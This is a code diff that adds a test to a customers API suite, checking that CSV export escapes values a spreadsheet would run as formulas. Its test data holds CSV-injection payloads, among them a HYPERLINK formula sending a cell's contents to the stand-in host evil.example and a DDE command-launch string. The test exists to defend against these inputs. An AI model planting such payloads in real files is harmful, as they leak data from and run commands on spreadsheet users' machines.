@@ -1,4 +1,6 @@
+import { readCsv } from '@madoguchi/core';
 import { DB_KINDS } from '@test/support/databases';
+import { parse } from 'csv-parse/sync';
 import { Session, startTestApp, TestApp } from '@test/support/test-app';
 
 jest.setTimeout(60_000);
@@ -152,6 +154,25 @@ describe.each(DB_KINDS)('customers API on %s', (kind) => {
     expect(lines[0].startsWith('顧客コード,姓,名')).toBe(true);
     expect(lines).toHaveLength(3);
     expect(lines.slice(1).map((l) => l.split(',')[1]).sort()).toEqual(['佐藤', '山田'].sort());
+  });
+
+  it('exports no cell a spreadsheet would run as a formula, and the product reads it back unchanged', async () => {
+    const attack = { lastName: '=HYPERLINK("http://evil.example/?"&A1,"詳細")', firstName: '+cmd|\' /C calc\'!A0', comment: '\t=1+1', address: '＠SUM(A1)', branch: 'CSV攻撃' };
+    const c = await admin.post('/api/customers', attack).expect(201);
+    const res = await admin.get('/api/customers/export.csv').query({ branch: 'CSV攻撃' }).buffer(true).parse((r, cb) => {
+      const chunks: Buffer[] = [];
+      r.on('data', (x: Buffer) => chunks.push(x));
+      r.on('end', () => cb(null, Buffer.concat(chunks)));
+    });
+    const rows = parse(res.body as Buffer, { bom: true }) as string[][];
+    const header = rows[0];
+    const row = rows[1];
+    // Stored as given, less the trimming every text field gets.
+    for (const [column, value] of [['姓', c.body.lastName], ['名', c.body.firstName], ['コメント', c.body.comment], ['住所', c.body.address]]) {
+      expect(row[header.indexOf(column)]).toBe(`'${value}`);
+    }
+    expect(readCsv(res.body as Buffer)[1][header.indexOf('姓')]).toBe(attack.lastName);
+    await admin.delete(`/api/customers/${c.body.id}`).expect(204);
   });
 
   it('deletes a customer and audits it', async () => {
